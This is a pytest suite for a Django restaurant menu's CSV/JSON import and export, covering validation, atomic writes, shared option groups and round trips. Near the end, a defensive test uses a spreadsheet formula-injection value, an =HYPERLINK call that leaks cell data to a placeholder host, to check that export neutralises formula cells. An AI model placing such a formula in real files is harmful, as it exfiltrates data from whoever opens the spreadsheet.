"""Menu files in and out: validation first, all or nothing, matching by category and name."""

import copy
import csv
import io
import json
import threading
from concurrent.futures import ThreadPoolExecutor

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.management import CommandError, call_command, load_command_class
from django.db import connection

from conftest import make_option_group, make_store, postgres_only
from menus import menu_files
from menus.models import Category, MenuItem, Option, OptionGroup
from menus.selectors import menu_version, store_menu
from menus.services import import_menu

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _media_in_tmp(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def row(category="식사", name="김치찌개", price=9000, description="", image_url="", is_available=True):
    return {
        "category": category,
        "name": name,
        "price": price,
        "description": description,
        "image_url": image_url,
        "is_available": is_available,
    }


# An item's origin, allergens and translations when a file gives none.
UNTRANSLATED = {"origin": "", "allergens": [], "translations": {}}


def without_ids(menu):
    menu = copy.deepcopy(menu)
    for category in menu["categories"]:
        del category["id"]
        for item in category["items"]:
            del item["id"]
            for group in item["option_groups"]:
                del group["id"]
                for option in group["options"]:
                    del option["id"]
    return menu


def menu_of(store):
    return without_ids(store_menu(store))


def test_import_creates_categories_and_items_in_file_order(store):
    result = import_menu(
        store=store,
        rows=[
            row("식사", "김치찌개", 9000, "얼큰한 찌개"),
            row("음료", "콜라", 2000),
            row("식사", "된장찌개", "8000", is_available="false"),
        ],
    )

    assert (result.categories_created, result.items_created, result.items_updated) == (2, 3, 0)
    assert menu_of(store) == {
        "categories": [
            {
                "name": "식사",
                "items": [
                    {
                        "name": "김치찌개",
                        "price": 9000,
                        "description": "얼큰한 찌개",
                        "image_url": "",
                        "image_srcset": "",
                        "is_available": True,
                        "option_groups": [],
                        **UNTRANSLATED,
                    },
                    {
                        "name": "된장찌개",
                        "price": 8000,
                        "description": "",
                        "image_url": "",
                        "image_srcset": "",
                        "is_available": False,
                        "option_groups": [],
                        **UNTRANSLATED,
                    },
                ],
                "translations": {},
            },
            {
                "name": "음료",
                "items": [
                    {
                        "name": "콜라",
                        "price": 2000,
                        "description": "",
                        "image_url": "",
                        "image_srcset": "",
                        "is_available": True,
                        "option_groups": [],
                        **UNTRANSLATED,
                    }
                ],
                "translations": {},
            },
        ]
    }


def test_reimport_updates_matches_adds_the_rest_and_deletes_nothing(store, menu):
    import_menu(
        store=store, rows=[row("식사", "김치찌개", 9500), row("식사", "순두부찌개", 8500), row("주류", "소주", 5000)]
    )

    items = {item.name: item for item in MenuItem.objects.filter(store=store)}
    assert items["김치찌개"].price == 9500
    assert items["김치찌개"].pk == menu[0].pk
    assert set(items) == {"김치찌개", "된장찌개", "공기밥", "순두부찌개", "소주"}
    # Existing items keep their place; new ones go after them.
    assert [item["name"] for item in store_menu(store)["categories"][0]["items"]] == [
        "김치찌개",
        "된장찌개",
        "공기밥",
        "순두부찌개",
    ]
    assert [category["name"] for category in store_menu(store)["categories"]] == ["식사", "주류"]


def test_reimport_of_the_same_rows_changes_nothing(store):
    rows = [row("식사", "김치찌개", 9000), row("식사", "된장찌개", 8000)]
    import_menu(store=store, rows=rows)
    before = list(MenuItem.objects.filter(store=store).values_list("pk", "updated_at"))

    result = import_menu(store=store, rows=rows)

    assert (result.items_created, result.items_updated, result.items_unchanged) == (0, 0, 2)
    assert list(MenuItem.objects.filter(store=store).values_list("pk", "updated_at")) == before


def test_import_into_one_store_never_touches_another(store, other_store):
    other_before = store_menu(other_store)

    import_menu(store=store, rows=[row("식사", "비빔밥", 99000), row("식사", "김밥", 3000)])

    assert store_menu(other_store) == other_before
    assert MenuItem.objects.get(store=store, name="비빔밥").price == 99000


@postgres_only
@pytest.mark.django_db(transaction=True)
def test_concurrent_imports_into_one_store_create_a_new_category_once(store):
    barrier = threading.Barrier(6)

    def import_one(number):
        try:
            barrier.wait()
            return import_menu(store=store, rows=[row("신메뉴", f"메뉴 {number}", 1000 + number)])
        finally:
            connection.close()

    with ThreadPoolExecutor(max_workers=6) as pool:
        results = list(pool.map(import_one, range(6)))

    assert sum(result.categories_created for result in results) == 1
    assert MenuItem.objects.filter(store=store, category__name="신메뉴").count() == 6
    assert sorted(MenuItem.objects.filter(store=store).values_list("display_order", flat=True)) == list(range(1, 7))


@pytest.mark.parametrize(
    ("bad", "message"),
    [
        ({"price": 0}, "row 2: price must be a whole number of won from 1 to 10,000,000"),
        ({"price": 10_000_001}, "row 2: price must be"),
        ({"price": "9,000"}, "row 2: price must be"),
        ({"price": 9000.5}, "row 2: price must be"),
        ({"price": True}, "row 2: price must be"),
        ({"price": None}, "row 2: price must be"),
        ({"name": "  "}, "row 2: name is required"),
        ({"category": None}, "row 2: category is required"),
        ({"name": "가" * 101}, "row 2: name must be at most 100 characters"),
        ({"category": "가" * 51}, "row 2: category must be at most 50 characters"),
        ({"description": "가" * 1001}, "row 2: description must be at most 1000 characters"),
        ({"is_available": "maybe"}, "row 2: is_available must be true or false"),
        ({"image_url": "ftp://example.com/a.jpg"}, "row 2: image_url must be an http(s) URL"),
        ({"image_url": "not a url"}, "row 2: image_url must be an http(s) URL"),
        ({"image_url": "/media/menu/missing.jpg"}, "row 2: image_url /media/menu/missing.jpg is not a stored file"),
        ({"image_url": "https://example.com/" + "a" * 500}, "row 2: image_url must be at most 500 characters"),
        ({"name": "김치찌개"}, "row 2: the same category and name as row 1"),
    ],
)
def test_one_bad_row_writes_nothing_and_names_the_row(store, bad, message):
    rows = [row(name="김치찌개"), {**row(name="된장찌개"), **bad}, row(name="공기밥", price=1000)]

    with pytest.raises(ValidationError) as caught:
        import_menu(store=store, rows=rows)

    assert any(text.startswith(message) for text in caught.value.messages), caught.value.messages
    assert not Category.objects.filter(store=store).exists()
    assert not MenuItem.objects.filter(store=store).exists()


def test_every_bad_row_is_reported_at_once(store):
    rows = [row(price=0), row(name="된장찌개"), row(name="", price=-1)]

    with pytest.raises(ValidationError) as caught:
        import_menu(store=store, rows=rows)

    assert [message.split(":")[0] for message in caught.value.messages] == ["row 1", "row 3", "row 3"]


@pytest.mark.parametrize(("value", "expected"), [("1", True), ("0", False), ("TRUE", True), ("no", False), ("", True)])
def test_is_available_accepts_boolean_words(store, value, expected):
    import_menu(store=store, rows=[row(is_available=value)])

    assert MenuItem.objects.get(store=store).is_available is expected


def test_image_urls_external_stored_and_empty(store, menu, settings):
    stored = MenuItem.objects.get(pk=menu[1].pk)
    stored.image.save("photo.jpg", ContentFile(b"jpeg bytes"), save=True)

    import_menu(
        store=store,
        rows=[
            row("식사", "김치찌개", image_url="https://cdn.example.com/kimchi.jpg"),
            row("식사", "된장찌개", 8000, image_url=""),
            row("식사", "공기밥", 1000, image_url=stored.image.url),
        ],
    )

    items = {item.name: item for item in MenuItem.objects.filter(store=store)}
    assert (items["김치찌개"].image_url, items["김치찌개"].image.name) == ("https://cdn.example.com/kimchi.jpg", "")
    # Empty keeps what the item had; a media URL of this site points at the same stored file.
    assert items["된장찌개"].image.name == stored.image.name
    assert (items["공기밥"].image.name, items["공기밥"].image_url) == (stored.image.name, "")
    assert stored.image.url.startswith(settings.MEDIA_URL)


def test_external_image_url_replaces_an_uploaded_image(store, menu):
    menu[0].image.save("photo.jpg", ContentFile(b"jpeg bytes"), save=True)

    import_menu(store=store, rows=[row("식사", "김치찌개", image_url="https://cdn.example.com/k.jpg")])

    assert store_menu(store)["categories"][0]["items"][0]["image_url"] == "https://cdn.example.com/k.jpg"


def test_csv_round_trip_keeps_korean_commas_quotes_and_newlines(store, tmp_path):
    description = '매콤한 "특제" 양념, 깻잎·쑥갓\n두 줄째 설명'
    import_menu(
        store=store,
        rows=[row("찌개, 탕", "김치찌개 (대)", 18000, description), row("음료", '"사이다"', 2000, is_available=False)],
    )
    path = tmp_path / "menu.csv"
    call_command("export_menu", store.code, str(path))
    target = make_store(code="copy", name="복사 식당")

    call_command("import_menu", target.code, str(path))

    assert menu_of(target) == menu_of(store)
    assert menu_of(target)["categories"][0]["items"][0]["description"] == description
    assert path.read_bytes().startswith(
        b"\xef\xbb\xbfcategory,name,price,description,image_url,is_available,name_en,description_en,"
        b"name_zh-hans,description_zh-hans,name_ja,description_ja,origin,allergens,origin_en,origin_zh-hans,origin_ja\n"
    )


def test_json_export_to_stdout_is_the_menu_shape(store, menu, capsys):
    call_command("export_menu", store.code)

    assert json.loads(capsys.readouterr().out) == store_menu(store)


def test_export_of_the_demo_store_imported_elsewhere_yields_the_same_menu(tmp_path):
    call_command("seed_demo", "--force")
    demo = Category.objects.get(name="음료").store
    target = make_store(code="chain-2", name="체인 2호점")
    for fmt in ("json", "csv"):
        path = tmp_path / f"demo.{fmt}"
        call_command("export_menu", "demo", str(path))
        call_command("import_menu", target.code, str(path))

        # Uploaded images come back as the same stored files, so even image URLs match.
        assert menu_of(target) == menu_of(demo)
    assert MenuItem.objects.filter(store=target).count() == MenuItem.objects.filter(store=demo).count()
    assert all(item.image and not item.image_url for item in MenuItem.objects.filter(store=target))


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_import_command_with_a_bad_row_writes_nothing_and_names_it(store, tmp_path, fmt):
    rows = [row(name="김치찌개"), row(name="된장찌개"), row(name="공기밥", price="free")]
    menu = {"categories": [{"id": 7, "name": "식사", "items": [{**r, "id": 1} for r in rows]}]}
    path = tmp_path / f"menu.{fmt}"
    path.write_text(menu_files.dump_json(menu) if fmt == "json" else menu_files.dump_csv(menu), encoding="utf-8")

    with pytest.raises(CommandError) as caught:
        call_command("import_menu", store.code, str(path))

    assert "Nothing was imported." in str(caught.value)
    assert "row 3: price must be a whole number of won from 1 to 10,000,000 (got 'free')" in str(caught.value)
    assert not MenuItem.objects.filter(store=store).exists()
    assert not Category.objects.filter(store=store).exists()


def test_import_command_format_option_overrides_the_extension(store, tmp_path):
    path = tmp_path / "menu.txt"
    path.write_text("category,name,price,description,image_url,is_available\n식사,김밥,3000,,,1\n", encoding="utf-8")

    with pytest.raises(CommandError, match=r"use \.json or \.csv, or --format"):
        call_command("import_menu", store.code, str(path))
    call_command("import_menu", store.code, str(path), "--format", "csv")

    assert MenuItem.objects.get(store=store).name == "김밥"


@pytest.mark.parametrize(
    ("name", "text", "message"),
    [
        ("menu.csv", "category,name,price\n식사,김밥,3000\n", "The CSV header must have the columns"),
        (
            "menu.csv",
            "category,name,price,description,image_url,is_available\n식사,김밥,3000,,,1,x\n",
            "row 1: has more",
        ),
        ("menu.csv", b"category,name,price,description,image_url,is_available\n\xbd\xc4,a,1,,,1\n", "Cannot read"),
        ("menu.json", "{not json", "The file is not valid JSON"),
        ("menu.json", '{"items": []}', 'must be an object with a "categories" list'),
        ("menu.json", '{"categories": [{"name": "식사", "items": "김밥"}]}', "Category 1 of the JSON"),
    ],
)
def test_malformed_files_are_rejected(store, tmp_path, name, text, message):
    path = tmp_path / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode())

    with pytest.raises(CommandError, match=message):
        call_command("import_menu", store.code, str(path))
    assert not MenuItem.objects.filter(store=store).exists()


def test_commands_reject_an_unknown_store(tmp_path, db):
    path = tmp_path / "menu.json"
    path.write_text('{"categories": []}', encoding="utf-8")

    with pytest.raises(CommandError, match="no store with the identifier 'nowhere'"):
        call_command("import_menu", "nowhere", str(path))
    with pytest.raises(CommandError, match="no store with the identifier 'nowhere'"):
        call_command("export_menu", "nowhere")


@pytest.mark.parametrize("name", ["import_menu", "export_menu"])
def test_help_renders_and_explains_image_urls(name):
    help_text = load_command_class("menus", name).create_parser("manage.py", name).format_help()

    assert "category,name,price,description,image_url,is_available" in help_text
    assert "/media/" in help_text


# Option groups (JSON only)


def group(name="맵기", min_select=1, max_select=1, options=()):
    return {"name": name, "min_select": min_select, "max_select": max_select, "options": list(options)}


def option(name, price_delta=0, is_available=True):
    return {"name": name, "price_delta": price_delta, "is_available": is_available}


def untranslated(entry):
    """An option group or option without its `translations` when it has none."""
    return {key: value for key, value in entry.items() if not (key == "translations" and value == {})}


def options_of(store):
    return {
        item["name"]: [
            {**untranslated(group), "options": [untranslated(option) for option in group["options"]]}
            for group in item["option_groups"]
        ]
        for category in menu_of(store)["categories"]
        for item in category["items"]
    }


def test_import_adds_option_groups_and_options_in_file_order(store):
    spice = group(options=[option("순한맛"), option("매운맛")])
    extra = group("추가", 0, 2, [option("치즈", 1000), option("계란", "500", "false")])

    result = import_menu(store=store, rows=[{**row(), "option_groups": [spice, extra]}, row(name="공기밥", price=1000)])

    assert (result.items_created, result.items_updated) == (2, 0)
    assert options_of(store) == {
        "김치찌개": [
            {**spice, "options": [option("순한맛"), option("매운맛")]},
            {**extra, "options": [option("치즈", 1000), option("계란", 500, False)]},
        ],
        "공기밥": [],
    }


def test_absent_limits_and_prices_take_the_model_defaults(store):
    import_menu(store=store, rows=[{**row(), "option_groups": [{"name": "추가", "options": [{"name": "치즈"}]}]}])

    assert options_of(store)["김치찌개"] == [group("추가", 0, 1, [option("치즈")])]


def test_reimport_matches_groups_and_options_by_name_updates_adds_and_deletes_nothing(store):
    first = group("추가", 0, 2, [option("치즈", 1000), option("계란", 500)])
    import_menu(store=store, rows=[{**row(), "option_groups": [group(options=[option("순한맛")]), first]}])
    item = MenuItem.objects.get(store=store)
    ids = set(OptionGroup.objects.values_list("id", flat=True)), set(Option.objects.values_list("id", flat=True))
    version = menu_version(store)

    again = group("추가", 1, 3, [option("햄", 2000), option("치즈", 1500, False)])
    result = import_menu(
        store=store, rows=[{**row(), "option_groups": [again, group("곱빼기", 0, 1, [option("곱빼기")])]}]
    )

    assert (result.items_created, result.items_updated, result.items_unchanged) == (0, 1, 0)
    assert MenuItem.objects.get(store=store).pk == item.pk
    assert options_of(store)["김치찌개"] == [
        group(options=[option("순한맛")]),
        group("추가", 1, 3, [option("치즈", 1500, False), option("계란", 500), option("햄", 2000)]),
        group("곱빼기", 0, 1, [option("곱빼기")]),
    ]
    assert ids[0] < set(OptionGroup.objects.values_list("id", flat=True))
    assert ids[1] < set(Option.objects.values_list("id", flat=True))
    # Only the options changed: the item's version still moves, so tablets re-read the menu.
    assert menu_version(store) != version


def test_reimport_of_the_same_options_changes_nothing(store):
    rows = [{**row(), "option_groups": [group(options=[option("순한맛"), option("매운맛")])]}]
    import_menu(store=store, rows=rows)
    version = menu_version(store)

    result = import_menu(store=store, rows=rows)

    assert (result.items_updated, result.items_unchanged) == (0, 1)
    assert menu_version(store) == version


def test_a_csv_import_leaves_options_as_they_are_and_a_csv_export_leaves_them_out(store, tmp_path):
    import_menu(store=store, rows=[{**row(), "option_groups": [group(options=[option("순한맛")])]}])
    path = tmp_path / "menu.csv"
    call_command("export_menu", store.code, str(path))
    text = path.read_text(encoding="utf-8-sig")
    path.write_text(text.replace("9000", "9500"), encoding="utf-8")

    call_command("import_menu", store.code, str(path))

    assert "순한맛" not in text
    assert MenuItem.objects.get(store=store).price == 9500
    assert options_of(store)["김치찌개"] == [group(options=[option("순한맛")])]


@pytest.mark.parametrize(
    ("groups", "message"),
    [
        ("맵기", "row 2: option_groups must be a list of objects."),
        (["맵기"], "row 2: option_groups must be a list of objects."),
        ([{**group(), "name": " "}], "row 2: option group 1: name is required."),
        ([{**group(), "name": "가" * 51}], "row 2: option group 1: name must be at most 50 characters"),
        ([group(min_select=2, max_select=1)], "row 2: option group 1: min_select cannot be more than max_select."),
        ([group(min_select=0, max_select=0)], "row 2: option group 1: max_select must be a whole number from 1"),
        ([group(min_select=-1)], "row 2: option group 1: min_select must be a whole number from 0"),
        ([group(min_select="1")], "row 2: option group 1: min_select must be a whole number"),
        ([group(max_select=True)], "row 2: option group 1: max_select must be a whole number"),
        ([group(), group()], "row 2: option group 2: the same name as option group 1."),
        ([{**group(), "options": "순한맛"}], "row 2: option group 1: options must be a list of objects."),
        ([group(options=[{"price_delta": 0}])], "row 2: option group 1: option 1: name is required."),
        ([group(options=[option("치즈", -1)])], "row 2: option group 1: option 1: price_delta must be a whole number"),
        (
            [group(options=[option("치즈", 10_000_001)])],
            "row 2: option group 1: option 1: price_delta must be a whole number of won from 0 to 10,000,000",
        ),
        ([group(options=[option("치즈", 1.5)])], "row 2: option group 1: option 1: price_delta must be"),
        ([group(options=[option("치즈", 0, "maybe")])], "row 2: option group 1: option 1: is_available must be"),
        (
            [group(options=[option("치즈"), option("치즈")])],
            "row 2: option group 1: option 2: the same name as option 1.",
        ),
    ],
)
def test_a_bad_option_group_writes_nothing_and_names_the_row_group_and_option(store, groups, message):
    rows = [row(name="공기밥", price=1000), {**row(), "option_groups": groups}]

    with pytest.raises(ValidationError) as caught:
        import_menu(store=store, rows=rows)

    assert any(text.startswith(message) for text in caught.value.messages), caught.value.messages
    assert not MenuItem.objects.exists() and not OptionGroup.objects.exists() and not Option.objects.exists()


def test_json_export_then_import_copies_options_to_another_store(store, tmp_path):
    import_menu(
        store=store,
        rows=[
            {**row(), "option_groups": [group(options=[option("순한맛"), option("매운맛")])]},
            {
                **row("음료", "소주", 5000),
                "option_groups": [group("종류", options=[option("참이슬"), option("처음처럼", 0, False)])],
            },
            row("음료", "콜라", 2000),
        ],
    )
    path = tmp_path / "menu.json"
    call_command("export_menu", store.code, str(path))
    target = make_store(code="copy", name="복사 식당")

    call_command("import_menu", target.code, str(path))

    assert menu_of(target) == menu_of(store)
    assert options_of(target)["소주"][0]["options"][1] == option("처음처럼", 0, False)
    assert Option.objects.filter(group__store=target).count() == Option.objects.filter(group__store=store).count() == 4


@pytest.mark.parametrize("name", ["import_menu", "export_menu"])
def test_help_says_json_carries_options_and_csv_does_not(name):
    help_text = " ".join(load_command_class("menus", name).create_parser("manage.py", name).format_help().split())

    assert "option_groups" in help_text
    assert "CSV is flat" in help_text


# Shared option groups (one 맵기, many items)

SPICE = group(options=[option("순한맛"), option("매운맛", 500)])


def shared_rows():
    return [
        {**row(), "option_groups": [SPICE]},
        {**row(name="떡볶이", price=6000), "option_groups": [SPICE, group("추가", 0, 2, [option("치즈", 1000)])]},
        {**row("음료", "소주", 5000), "option_groups": [group("종류", options=[option("참이슬")])]},
    ]


def test_groups_a_file_describes_alike_become_one_shared_group(store):
    import_menu(store=store, rows=shared_rows())

    spice = OptionGroup.objects.get(store=store, name="맵기")
    assert sorted(spice.items.values_list("name", flat=True)) == ["김치찌개", "떡볶이"]
    assert OptionGroup.objects.filter(store=store).count() == 3
    assert options_of(store)["떡볶이"][0] == options_of(store)["김치찌개"][0] == SPICE


def test_a_shared_group_round_trips_to_another_store_and_reimports_unchanged(store, tmp_path):
    import_menu(store=store, rows=shared_rows())
    path = tmp_path / "menu.json"
    call_command("export_menu", store.code, str(path))
    exported = json.loads(path.read_text())
    (stew, tteok), _drinks = (category["items"] for category in exported["categories"])
    assert stew["option_groups"][0]["id"] == tteok["option_groups"][0]["id"]
    target = make_store(code="copy", name="복사 식당")

    call_command("import_menu", target.code, str(path))
    ids = sorted(OptionGroup.objects.filter(store=target).values_list("id", flat=True))
    version = menu_version(target)
    again = import_menu(store=target, rows=menu_files.parse_json(path.read_text()))

    assert menu_of(target) == menu_of(store)
    assert sorted(OptionGroup.objects.get(store=target, name="맵기").items.values_list("name", flat=True)) == [
        "김치찌개",
        "떡볶이",
    ]
    assert (again.items_updated, again.items_unchanged) == (0, 3)
    assert sorted(OptionGroup.objects.filter(store=target).values_list("id", flat=True)) == ids
    assert menu_version(target) == version


def test_an_item_gets_the_stores_existing_group_of_the_same_content(store):
    import_menu(store=store, rows=shared_rows()[:1])

    import_menu(store=store, rows=[{**row(name="라면", price=4000), "option_groups": [SPICE]}])

    assert OptionGroup.objects.filter(store=store).count() == 1
    assert OptionGroup.objects.get().items.count() == 2


def test_a_reimport_updates_a_shared_group_once_for_all_its_items(store):
    import_menu(store=store, rows=shared_rows())
    hotter = group(options=[option("순한맛"), option("매운맛", 800)])
    rows = shared_rows()
    rows[0]["option_groups"] = rows[1]["option_groups"][:1] = [hotter]

    result = import_menu(store=store, rows=rows)

    assert result.items_updated == 2
    assert options_of(store)["떡볶이"][0] == options_of(store)["김치찌개"][0] == hotter
    assert OptionGroup.objects.filter(store=store, name="맵기").count() == 1


def test_two_rows_describing_one_shared_group_differently_write_nothing(store):
    import_menu(store=store, rows=shared_rows())
    before, version = menu_of(store), menu_version(store)
    rows = shared_rows()
    rows[1]["option_groups"] = [group(options=[option("순한맛"), option("매운맛", 800)])]

    with pytest.raises(ValidationError) as error:
        import_menu(store=store, rows=[*rows, row(name="새 메뉴")])

    assert error.value.messages == [
        "row 2: option group 맵기 is shared with the item of row 1, which describes it differently."
    ]
    assert menu_of(store) == before and menu_version(store) == version


def test_groups_kept_per_item_stay_separate_on_reimport(store, menu):
    # As the migration leaves them: identical groups, one per item.
    for item in menu[:2]:
        spice = make_option_group(item, name="맵기", max_select=1)
        Option.objects.create(group=spice, name="순한맛")
    ids = sorted(OptionGroup.objects.values_list("id", flat=True))
    file = menu_files.dump_json(store_menu(store))

    result = import_menu(store=store, rows=menu_files.parse_json(file))

    assert result.items_unchanged == 3
    assert sorted(OptionGroup.objects.values_list("id", flat=True)) == ids


HOSTILE_NAME = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
FORMULA_NAMES = [HOSTILE_NAME, "+82 특선", "-반값-", "@today", "'=이미 따옴표", "'평범한 따옴표"]


def test_csv_export_makes_formula_cells_inert_and_imports_them_back_unchanged(store, tmp_path):
    import_menu(
        store=store,
        rows=[row("=SUM(1)", name, 9000 + i, description="-5% 할인") for i, name in enumerate(FORMULA_NAMES)],
    )
    path = tmp_path / "menu.csv"
    call_command("export_menu", store.code, str(path))
    cells = [cell for line in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for cell in line]

    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + HOSTILE_NAME in cells and "'-반값-" in cells and "''=이미 따옴표" in cells
    assert "'평범한 따옴표" in cells
    target = make_store(code="copy", name="복사 식당")
    call_command("import_menu", target.code, str(path))
    assert menu_of(target) == menu_of(store)
    names = {item["name"] for category in menu_of(target)["categories"] for item in category["items"]}
    assert names == set(FORMULA_NAMES)


# A CSV is UTF-8 bytes, which cannot hold a lone surrogate: it is refused as not UTF-8.
@pytest.mark.parametrize(
    ("fmt", "bad"), [("json", "김치\x00찌개"), ("json", "김치\ud800찌개"), ("csv", "김치\x00찌개")]
)
@pytest.mark.parametrize("field", ["category", "name", "description", "image_url"])
def test_a_nul_or_lone_surrogate_in_an_imported_file_names_the_row_and_writes_nothing(store, tmp_path, fmt, bad, field):
    rows = [row(name="공기밥", price=1000), {**row(), field: bad}]
    if fmt == "json":
        categories = [{"name": r["category"], "items": [{k: v for k, v in r.items() if k != "category"}]} for r in rows]
        path = tmp_path / "menu.json"
        path.write_text(json.dumps({"categories": categories}), encoding="utf-8")  # \u0000 and \ud800 escapes
    else:
        path = tmp_path / "menu.csv"
        buffer = io.StringIO()
        writer = csv.DictWriter(buffer, fieldnames=menu_files.CSV_COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
        path.write_text(buffer.getvalue(), encoding="utf-8")

    with pytest.raises(CommandError, match=rf"row 2: {field} has a character that is not allowed"):
        call_command("import_menu", store.code, str(path))
    assert not Category.objects.filter(store=store).exists()
